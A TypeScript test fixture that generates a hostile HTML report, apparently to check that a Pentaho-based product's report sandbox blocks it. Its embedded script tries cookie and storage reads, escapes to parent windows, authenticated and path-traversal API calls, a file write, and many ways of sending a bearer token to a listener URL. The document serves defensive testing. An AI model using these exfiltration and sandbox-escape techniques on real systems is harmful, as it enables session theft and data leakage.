// A report by somebody who means harm. It tries one thing after the other and writes down in #outcome what became of
// each; what it sends to the listener, only the listener can tell. What makes it leave its page it does on demand.

export interface Attempt {
  readonly name: string;
  readonly isStopped: boolean;
  readonly detail: string;
}

export const waysToLeave = [
  'address',
  'refresh',
  'link',
  'form',
  'data',
  'blob',
  'form-to-product',
  'logout',
  'home',
] as const;

export type WayToLeave = (typeof waysToLeave)[number];

export function buildHostileReport(listenerUrl: string): string {
  return present(listenerUrl, {
    head: listHead(listenerUrl),
    body: listBody(listenerUrl),
    start: 'void tryEverything().then(tell);',
  });
}

/** It tries nothing, until `leaveBy` is called. */
export function buildStillReport(listenerUrl: string): string {
  return present(listenerUrl, { head: '', body: '', start: '' });
}

interface Parts {
  readonly head: string;
  readonly body: string;
  /** What its script does at once. */
  readonly start: string;
}

function present(listenerUrl: string, { head, body, start }: Parts): string {
  return `<!doctype html>
<html lang="pt-BR">
<head>
<title>Indicadores do mês</title>
${head}
</head>
<body>
<h1>Indicadores do mês</h1>
${body}
<form id="form" action="${listenerUrl}/form" method="post"><input name="a" value="b"></form>
<form id="product-form" action="/pentaho/plugin/cda/api/writeCdaFile" method="post">
  <input name="path" value="/public/roubado.cda"><input name="data" value="x">
</form>
<script>
const listener = ${JSON.stringify(listenerUrl)};
${script}
${start}
</script>
</body>
</html>
`;
}

function listHead(listenerUrl: string): string {
  return `<link rel="dns-prefetch" href="${listenerUrl}">
<link rel="preconnect" href="${listenerUrl}">
<link rel="prefetch" href="${listenerUrl}/link-prefetch">
<link rel="preload" as="image" href="${listenerUrl}/link-preload">
<link rel="modulepreload" href="${listenerUrl}/link-modulepreload">
<link rel="stylesheet" href="${listenerUrl}/link-stylesheet">
<link rel="icon" href="${listenerUrl}/link-icon">
<link rel="manifest" href="${listenerUrl}/link-manifest">
<base href="${listenerUrl}/base/">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${listenerUrl}/speculation"]}]}</script>
<style>
@import url("${listenerUrl}/css-import");
@font-face { font-family: stolen; src: url("${listenerUrl}/css-font"); }
h1 { font-family: stolen; background: url("${listenerUrl}/css-background"); }
</style>`;
}

function listBody(listenerUrl: string): string {
  return `<img src="${listenerUrl}/img" srcset="${listenerUrl}/img-srcset 2x" alt="">
<script src="${listenerUrl}/script"></script>
<iframe src="${listenerUrl}/iframe"></iframe>
<iframe srcdoc='<img src="${listenerUrl}/srcdoc-img"><script>fetch("${listenerUrl}/srcdoc-fetch")</script>'></iframe>
<object data="${listenerUrl}/object"></object>
<embed src="${listenerUrl}/embed">
<video src="${listenerUrl}/video" poster="${listenerUrl}/poster" preload="auto"></video>
<audio src="${listenerUrl}/audio" preload="auto"></audio>
<svg width="1" height="1"><image href="${listenerUrl}/svg-image" width="1" height="1"/></svg>`;
}

const script = String.raw`
const attempts = [];
const product = new URL(window.location.href).origin;
const stopped = Symbol('stopped');
const patience = 2000;

/** Nothing may come of it: it has to throw, or to find nothing. */
async function attempt(name, work) {
  const waiting = new Promise((over) => setTimeout(() => over(stopped), patience));
  try {
    const got = await Promise.race([work(), waiting]);
    attempts.push({ name, isStopped: got === stopped, detail: String(got === stopped ? '' : got).slice(0, 200) });
  } catch (error) {
    attempts.push({ name, isStopped: true, detail: error.name });
  }
}

const nothing = (value) => (value === null || value === undefined ? stopped : value);

async function load(element, address) {
  const ended = new Promise((over) => {
    element.onload = () => over('loaded');
    element.onerror = () => over(stopped);
  });
  element[address.name] = address.value;
  document.body.append(element);
  return await ended;
}

async function ask(path, options) {
  const response = await fetch(new URL(path, product), options);
  return response.status + ' ' + (await response.text());
}

async function askOldWay(path) {
  const request = new XMLHttpRequest();
  request.open('GET', new URL(path, product), false);
  request.withCredentials = true;
  request.send();
  return request.status + ' ' + request.responseText;
}

const token = window.prumoReport.token;
const bearer = { authorization: 'Bearer ' + token };
const element = (name) => document.createElement(name);

async function tryEverything() {
  await attempt('read cookies', () => 'cookies: ' + document.cookie);
  await attempt('write a cookie', () => { document.cookie = 'stolen=1; path=/'; return document.cookie; });
  await attempt('localStorage', () => Object.keys(window.localStorage));
  await attempt('sessionStorage', () => Object.keys(window.sessionStorage));
  await attempt('indexedDB', () => new Promise((done, fail) => {
    const opening = window.indexedDB.open('x');
    opening.onsuccess = () => done('opened');
    opening.onerror = () => fail(opening.error);
  }));
  await attempt('caches', () => nothing(window.caches && window.caches.open('x')));
  await attempt('cookieStore', () => nothing(window.cookieStore && window.cookieStore.getAll()));
  await attempt('document of the parent', () => window.parent.document.title);
  await attempt('document of the top window', () => window.top.document.title);
  await attempt('storage of the parent', () => Object.keys(window.parent.localStorage));
  await attempt('address of the parent', () => window.parent.location.href);
  await attempt('address of the top window', () => window.top.location.href);
  await attempt('script in the parent', () => window.parent.eval('1'));
  await attempt('its own frame element', () => nothing(window.frameElement));
  await attempt('its opener', () => nothing(window.opener));
  await attempt('a frame without a sandbox', async () => {
    const frame = element('iframe');
    frame.src = product + '/login';
    document.body.append(frame);
    await new Promise((over) => { frame.onload = over; });
    return nothing(frame.contentDocument);
  });
  await attempt('send the top window away', () => { window.top.location.href = listener + '/top'; return stopped; });
  await attempt('send the parent away', () => { window.parent.location.replace(listener + '/parent'); return stopped; });
  await attempt('open a window', () => nothing(window.open(listener + '/window')));
  await attempt('open a window by a link', () => {
    const link = Object.assign(element('a'), { href: listener + '/blank', target: '_blank', rel: 'opener' });
    document.body.append(link);
    link.click();
    return stopped;
  });
  await attempt('leave in the name of the top window', () => {
    const link = Object.assign(element('a'), { href: listener + '/target-top', target: '_top' });
    document.body.append(link);
    link.click();
    return stopped;
  });

  const calls = [
    '/gateway/session',
    '/pentaho/api/session/userName',
    '/pentaho/api/repo/files/:/tree',
    '/pentaho/api/prumo/people',
    '/pentaho/plugin/prumo/api/myRoles',
    '/pentaho/plugin/cda/api/getCdaList',
    '/pentaho/plugin/cda/api/getCdaFile?path=/public/ocupacao-e-fluxo/ocupacao.cda',
    '/pentaho/plugin/cda/api/../../../api/session/userName',
    '/pentaho/plugin/cda/api/..%2f..%2f..%2fapi%2fsession%2fuserName',
    '/pentaho/plugin/cda/api/doQuery?path=/public/ocupacao-e-fluxo/ocupacao.cda&dataAccessId=unidades',
  ];
  for (const path of calls) {
    await attempt('fetch with cookies ' + path, () => ask(path, { credentials: 'include' }));
    await attempt('XMLHttpRequest ' + path, () => askOldWay(path));
    if (!path.includes('/doQuery')) await attempt('fetch with the token ' + path, () => ask(path, { headers: bearer }));
  }
  await attempt('write with cookies', () => ask('/pentaho/plugin/cda/api/writeCdaFile', {
    method: 'POST', credentials: 'include', body: new URLSearchParams({ path: '/public/roubado.cda', data: 'x' }),
  }));
  // Its answer cannot be read either way; whether it was done, the test looks for itself.
  await fetch(product + '/pentaho/plugin/cda/api/writeCdaFile', {
    method: 'POST', mode: 'no-cors', credentials: 'include',
    body: new URLSearchParams({ path: '/public/roubado.cda', data: 'x' }),
  }).catch(() => {});
  await attempt('results as a script', () => load(element('script'), {
    name: 'src',
    value: product + '/pentaho/plugin/cda/api/doQuery?path=/public/ocupacao-e-fluxo/ocupacao.cda&dataAccessId=unidades&outputType=json&jsonp=alert',
  }));

  await attempt('fetch elsewhere', () => ask(listener + '/fetch'));
  await attempt('fetch elsewhere without an answer', () => ask(listener + '/fetch-no-cors', { mode: 'no-cors', keepalive: true }));
  await attempt('XMLHttpRequest elsewhere', () => askOldWay(listener + '/xhr'));
  await attempt('beacon', () => { navigator.sendBeacon(listener + '/beacon', token); return stopped; });
  await attempt('image', () => load(new Image(), { name: 'src', value: listener + '/new-image' }));
  await attempt('script', () => load(element('script'), { name: 'src', value: listener + '/new-script' }));
  await attempt('style sheet', () => load(Object.assign(element('link'), { rel: 'stylesheet' }), { name: 'href', value: listener + '/new-style' }));
  await attempt('module', () => import(listener + '/import'));
  await attempt('web socket', () => new Promise((done) => {
    const socket = new WebSocket(listener.replace('http', 'ws') + '/socket');
    socket.onopen = () => done('open');
    socket.onerror = () => done(stopped);
  }));
  await attempt('event source', () => new Promise((done) => {
    const source = new EventSource(listener + '/events');
    source.onopen = () => done('open');
    source.onerror = () => done(stopped);
  }));
  await attempt('worker', () => new Promise((done) => {
    const program = new Blob(['fetch("' + listener + '/worker"); postMessage("runs")'], { type: 'text/javascript' });
    const worker = new Worker(URL.createObjectURL(program));
    worker.onmessage = ({ data }) => done(data);
    worker.onerror = () => done(stopped);
  }));
  await attempt('service worker', () => navigator.serviceWorker.register(product + '/pentaho/api/repos/x/content'));
  await attempt('ping of a link', () => {
    const link = Object.assign(element('a'), { href: '#', ping: listener + '/ping' });
    link.addEventListener('click', (event) => event.stopPropagation());
    document.body.append(link);
    link.click();
    return stopped;
  });
  await attempt('frame of nobody', async () => {
    const frame = element('iframe');
    document.body.append(frame);
    return (await frame.contentWindow.fetch(listener + '/blank-frame')).status;
  });
  await attempt('frame by a script address', async () => {
    const frame = element('iframe');
    frame.src = 'javascript:fetch("' + listener + '/javascript-frame")';
    document.body.append(frame);
    return stopped;
  });
  await attempt('frame of data', () => load(element('iframe'), {
    name: 'src', value: 'data:text/html,<script>fetch("' + listener + '/data-frame")</' + 'script>',
  }).then(() => stopped));
}

const page = '<script>fetch("' + listener + '/left-as-page")</' + 'script>';

window.leaveBy = (way) => {
  const ways = {
    address: () => { window.location.href = listener + '/left?' + token; },
    refresh: () => {
      document.head.append(Object.assign(element('meta'), { httpEquiv: 'refresh', content: '0; url=' + listener + '/refreshed' }));
    },
    link: () => {
      const link = Object.assign(element('a'), { href: listener + '/link' });
      document.body.append(link);
      link.click();
    },
    form: () => document.getElementById('form').submit(),
    data: () => { window.location.href = 'data:text/html,' + encodeURIComponent(page); },
    blob: () => { window.location.href = URL.createObjectURL(new Blob([page], { type: 'text/html' })); },
    'form-to-product': () => document.getElementById('product-form').submit(),
    logout: () => { window.location.href = product + '/pentaho/Logout'; },
    home: () => { window.location.href = product + '/home'; },
  };
  ways[way]();
};

function tell() {
  document.body.append(Object.assign(element('pre'), { id: 'token', textContent: token }));
  document.body.append(Object.assign(element('pre'), { id: 'outcome', textContent: JSON.stringify(attempts) }));
}
`;
